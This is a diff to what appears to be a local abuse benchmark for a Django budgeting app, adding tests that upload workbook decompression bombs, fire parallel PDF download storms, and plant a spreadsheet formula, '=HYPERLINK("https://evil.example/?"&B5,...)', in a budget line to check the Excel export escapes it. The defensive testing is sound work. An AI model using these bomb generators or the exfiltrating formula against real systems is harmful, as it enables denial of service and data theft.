@@ -38,7 +38,8 @@ from urllib.parse import urlencode
 ROOT = Path(__file__).resolve().parent.parent
 HOST = "127.0.0.1"  # loopback only
 PG_ADMIN_URL = "postgresql://postgres@127.0.0.1:5432/postgres"
-DATABASE = "finsam_abuse"
+# Another name with ABUSE_DATABASE, so that two runs on one machine do not meet.
+DATABASE = os.environ.get("ABUSE_DATABASE", "finsam_abuse")
 DATABASE_URL = f"postgres://postgres@127.0.0.1:5432/{DATABASE}"
 PASSWORD = "demo"
 KANSLI = "samspelet-kansli"
@@ -297,6 +298,7 @@ class Context:
     workers: int
     tmp: Path
     _kansli: Session | None = None
+    drafts: dict = field(default_factory=dict)  # förbund slug -> a draft plan's pk
 
     def session(self) -> Session:
         return Session(self.port)
@@ -572,6 +574,267 @@ def probes(ctx: Context) -> Outcome:
     return Outcome(held, f"{len(answers)} probes, all 200 'ok'" if held else str(answers))
 
 
+# Workbook bombs, PDF downloads, formula exports ------------------------------------------
+
+SHEET_HEAD = (
+    b'<?xml version="1.0" encoding="UTF-8"?>'
+    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    b"<sheetData>"
+)
+SHEET_TAIL = b"</sheetData></worksheet>"
+
+
+def workbook_with(name: str, parts) -> bytes:
+    """A real workbook whose part ``name`` is written from the byte strings ``parts``
+    (the bombs of tests/budgets/test_upload_bombs.py, built with openpyxl and zipfile)."""
+    import io
+    import zipfile
+
+    from openpyxl import Workbook
+
+    source = io.BytesIO()
+    book = Workbook()
+    book.active.title = "Budget"
+    book.active["A1"] = "Rad"
+    book.save(source)
+    output = io.BytesIO()
+    with (
+        zipfile.ZipFile(source) as original,
+        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as bomb,
+    ):
+        for member in original.namelist():
+            if member != name:
+                bomb.writestr(member, original.read(member))
+        with bomb.open(name, "w", force_zip64=True) as stream:
+            for part in parts:
+                stream.write(part)
+    return output.getvalue()
+
+
+def one_huge_cell():
+    yield SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
+    for _ in range(100):
+        yield b"A" * MIB
+    yield b"</t></is></c></row>" + SHEET_TAIL
+
+
+def many_shared_strings(count: int):
+    yield (
+        b'<?xml version="1.0" encoding="UTF-8"?>'
+        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    )
+    for _ in range(count // 10_000):
+        yield b"<si><t>a</t></si>" * 10_000
+    yield b"</sst>"
+
+
+def one_long_row(count: int):
+    yield SHEET_HEAD + b'<row r="1">'
+    for _ in range(count // 10_000):
+        yield b"<c><v>1</v></c>" * 10_000
+    yield b"</row>" + SHEET_TAIL
+
+
+WORKBOOK_BOMBS = {
+    "a cell of 100 MB": lambda: workbook_with("xl/worksheets/sheet1.xml", one_huge_cell()),
+    "3 million shared strings": lambda: workbook_with(
+        "xl/sharedStrings.xml", many_shared_strings(3_000_000)
+    ),
+    "a row of a million cells": lambda: workbook_with(
+        "xl/worksheets/sheet1.xml", one_long_row(1_000_000)
+    ),
+}
+
+
+def post_file(session: Session, path: str, field_name: str, filename: str, data: bytes):
+    """A multipart form with one file, posted with the form's CSRF token."""
+    form = session.get(path)
+    match = CSRF_INPUT.search(form.text)
+    if not match:
+        raise BenchError(f"GET {path} gave {form.status} without a CSRF token")
+    boundary = "finsam-bench-boundary"
+    body = (
+        (
+            f"--{boundary}\r\n"
+            'Content-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n'
+            f"{match.group(1)}\r\n"
+            f"--{boundary}\r\n"
+            f'Content-Disposition: form-data; name="{field_name}"; filename="{filename}"\r\n'
+            "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+            "\r\n\r\n"
+        ).encode()
+        + data
+        + f"\r\n--{boundary}--\r\n".encode()
+    )
+    return http_request(
+        session.port,
+        "POST",
+        path,
+        session.cookies,
+        body=body,
+        headers={
+            "Content-Type": f"multipart/form-data; boundary={boundary}",
+            "Referer": f"http://{HOST}:{session.port}{path}",
+        },
+    )
+
+
+@attack("workbook bombs: three small uploads to a draft's budget import")
+def workbook_bombs(ctx: Context) -> Outcome:
+    path = f"/f/{ASSOCIATION}/budgets/plans/{ctx.drafts[ASSOCIATION]}/import/"
+    rows, held = [], True
+    for kind, make in WORKBOOK_BOMBS.items():
+        data = make()
+        before = Memory.of(ctx.server.process.pid)
+        started = time.monotonic()
+        answer = post_file(ctx.kansli, path, "file", "budget.xlsx", data)
+        seconds = time.monotonic() - started
+        _rss, peak = before.growth(Memory.of(ctx.server.process.pid))
+        refused = answer.status == 200 and "för stor uppackad" in answer.text
+        held &= refused and seconds < 2 and peak < 50
+        rows.append(
+            f"{kind} ({len(data) // 1024} kB): "
+            f"{'refused' if refused else f'NOT REFUSED ({answer.status})'} "
+            f"in {seconds:.2f} s, peak +{peak:.1f} MiB"
+        )
+    return Outcome(held, "; ".join(rows))
+
+
+def percentile(values: list[float], share: float) -> float:
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, int(share * len(ordered)))]
+
+
+def home_page_times(session: Session, path: str, *, count: int | None, until=None) -> list:
+    """Seconds of each GET of ``path`` in a row: ``count`` of them, or until ``until`` is
+    set (at most 2000)."""
+    times = []
+    for _ in range(count or 2000):
+        if until is not None and until.is_set():
+            break
+        started = time.monotonic()
+        answer = session.get(path)
+        times.append(time.monotonic() - started)
+        if answer.status != 200:
+            raise BenchError(f"GET {path} gave {answer.status}")
+    return times
+
+
+PDF_DOWNLOADS = 10
+# A download that gets the waiting page asks again after its Retry-After, as the
+# page's refresh does, at most this many times.
+PDF_ATTEMPTS = 20
+
+
+WATCHED = "ostra-varmland"  # the förbund whose home page is timed while others download
+
+
+def pdf_storm(ctx: Context, downloads: list[tuple[Session, str]]) -> Outcome:
+    """Another förbund's home page p95, idle and while ``downloads`` run in parallel
+    (each asking again after the waiting page's Retry-After, as its refresh does)."""
+    watcher = ctx.login(f"{WATCHED}-kansli")
+    home = f"/f/{WATCHED}/"
+    home_page_times(watcher, home, count=5)  # warm
+    idle = home_page_times(watcher, home, count=60)
+    done = threading.Event()
+    got_pdf: list[int] = []
+    results: list[tuple[int, int, float]] = []  # (final status, attempts, seconds)
+    lock = threading.Lock()
+
+    def download(session: Session, path: str):
+        started = time.monotonic()
+        attempts = 0
+        while attempts < PDF_ATTEMPTS:
+            attempts += 1
+            answer = session.get(path)
+            if answer.status != 503:
+                break
+            time.sleep(int(answer.headers.get("Retry-After", "5")))
+        with lock:
+            results.append((answer.status, attempts, time.monotonic() - started))
+            if answer.status == 200 and answer.body.startswith(b"%PDF"):
+                got_pdf.append(attempts)
+
+    watching: list[float] = []
+
+    def watch():
+        watching.extend(home_page_times(watcher, home, count=None, until=done))
+
+    watch_thread = threading.Thread(target=watch)
+    watch_thread.start()
+    threads = [threading.Thread(target=download, args=item) for item in downloads]
+    started = time.monotonic()
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    window = time.monotonic() - started
+    done.set()
+    watch_thread.join()
+    idle_p95, load_p95 = percentile(idle, 0.95), percentile(watching, 0.95)
+    ratio = load_p95 / idle_p95
+    first = sum(1 for status, attempts, _s in results if attempts == 1 and status == 200)
+    waited = [attempts for _status, attempts, _s in results if attempts > 1]
+    slowest = max(seconds for _status, _attempts, seconds in results)
+    held = len(got_pdf) == len(downloads) and ratio <= 2
+    return Outcome(
+        held,
+        f"{WATCHED}'s home page p95 {idle_p95 * 1000:.0f} ms idle, {load_p95 * 1000:.0f} ms "
+        f"while the downloads ran ({len(watching)} requests in {window:.1f} s): ratio "
+        f"{ratio:.2f} (bar 2); {len(got_pdf)} of {len(downloads)} got the PDF, {first} at "
+        f"once, {len(waited)} after the waiting page (asked {sum(waited)} times), the last "
+        f"after {slowest:.1f} s",
+    )
+
+
+@attack(f"{PDF_DOWNLOADS} parallel downloads of a draft's PDF by one revisor")
+def pdf_downloads(ctx: Context) -> Outcome:
+    revisor = ctx.login(f"{ASSOCIATION}-revisor")
+    path = f"/f/{ASSOCIATION}/plans/{ctx.drafts[ASSOCIATION]}/document.pdf"
+    return pdf_storm(ctx, [(Session(ctx.port, dict(revisor.cookies)), path)] * PDF_DOWNLOADS)
+
+
+@attack(f"{PDF_DOWNLOADS} parallel downloads by people of four förbund (PDF and PDF/A)")
+def pdf_downloads_many_people(ctx: Context) -> Outcome:
+    downloads = []
+    for slug in sorted(set(ctx.drafts) - {WATCHED}):
+        for role, name in [("kansli", "document.pdf"), ("styrelse", "document-arkiv.pdf")]:
+            session = ctx.login(f"{slug}-{role}")
+            downloads.append((session, f"/f/{slug}/plans/{ctx.drafts[slug]}/{name}"))
+    # Each förbund's drafts once more, by the same people: ten in all.
+    downloads = (downloads * 2)[:PDF_DOWNLOADS]
+    return pdf_storm(ctx, downloads)
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B5,"Mer info")'
+
+
+@attack("budget line named as a formula, exported to Excel")
+def formula_export(ctx: Context) -> Outcome:
+    import io
+
+    from openpyxl import load_workbook
+
+    ctx.manage("shell", "-c", name_a_line(ctx.drafts[ASSOCIATION]))
+    answer = ctx.kansli.get(f"/f/{ASSOCIATION}/budgets/plans/{ctx.drafts[ASSOCIATION]}/excel/")
+    if answer.status != 200:
+        return Outcome(False, f"the export answered {answer.status}")
+    book = load_workbook(io.BytesIO(answer.body))
+    cells = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
+    ]
+    as_text = [cell for cell in cells if cell.data_type == "s" and cell.value == FORMULA_NAME]
+    return Outcome(
+        bool(cells) and len(as_text) == len(cells),
+        f"{len(cells)} cell(s) with the name, {len(as_text)} a text cell holding it unchanged"
+        + ("" if len(as_text) == len(cells) else f"; as written: {cells[0].data_type}"),
+    )
+
+
 # Running ----------------------------------------------------------------------------------
 
 
@@ -582,6 +845,35 @@ from associations.models import User
 for user in User.objects.exclude(username__in=["admin", "{KANSLI}"]):
     User.objects.filter(pk=user.pk).update(email=user.username + "@example.se")
 User.objects.filter(username="{KANSLI}").update(email="{TARGET_EMAIL}")
+"""
+
+
+# A draft of each förbund (the demo's plans are approved): next year's, copied as a kansli
+# would. Prints "draft <slug> <pk>" lines.
+MAKE_DRAFTS = """
+from django_scopes import scope
+from associations.models import Association, User
+from plans.models import Plan
+from plans.services import plan_copy_to_next_year
+for association in Association.objects.order_by("slug"):
+    with scope(association=association):
+        draft = Plan.objects.filter(association=association, status="draft").first()
+        if draft is None:
+            source = Plan.objects.filter(association=association).order_by("-year").first()
+            kansli = User.objects.get(username=association.slug + "-kansli")
+            draft = plan_copy_to_next_year(plan=source, acting_user=kansli)
+        print("draft", association.slug, draft.pk)
+"""
+
+
+def name_a_line(draft: int) -> str:
+    """Shell code: the first budget line of a draft gets a name Excel would run as a formula."""
+    return f"""
+from django_scopes import scopes_disabled
+from budgets.models import BudgetLine
+with scopes_disabled():
+    line = BudgetLine.objects.filter(group__budget__plan_id={draft}).order_by("pk").first()
+    BudgetLine.objects.filter(pk=line.pk).update(name={FORMULA_NAME!r})
 """
 
 
@@ -611,6 +903,8 @@ def drop_database():
 
 def production_env(mail_port: int) -> dict:
     env = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG", "TMPDIR")}
+    # The PDF rendering limits may be tried with other values (PDF_RENDER_WAIT=0 …).
+    env.update({k: v for k, v in os.environ.items() if k.startswith("PDF_RENDER_")})
     env.update(
         DEBUG="false",
         SECRET_KEY="bench-abuse-" + "x" * 50,
@@ -645,6 +939,12 @@ def main():
             ctx.manage("migrate", "--noinput", "-v0")
             ctx.manage("load_demo")
             ctx.manage("shell", "-c", GIVE_ADDRESSES)
+            drafts = ctx.manage("shell", "-c", MAKE_DRAFTS)
+            ctx.drafts = {
+                words[1]: int(words[2])
+                for words in (line.split() for line in drafts.splitlines())
+                if len(words) == 3 and words[0] == "draft"
+            }
             server = Server(env, args.workers, tmp / "gunicorn.log")
             ctx.port, ctx.server = server.port, server
             ctx._kansli = ctx.login()
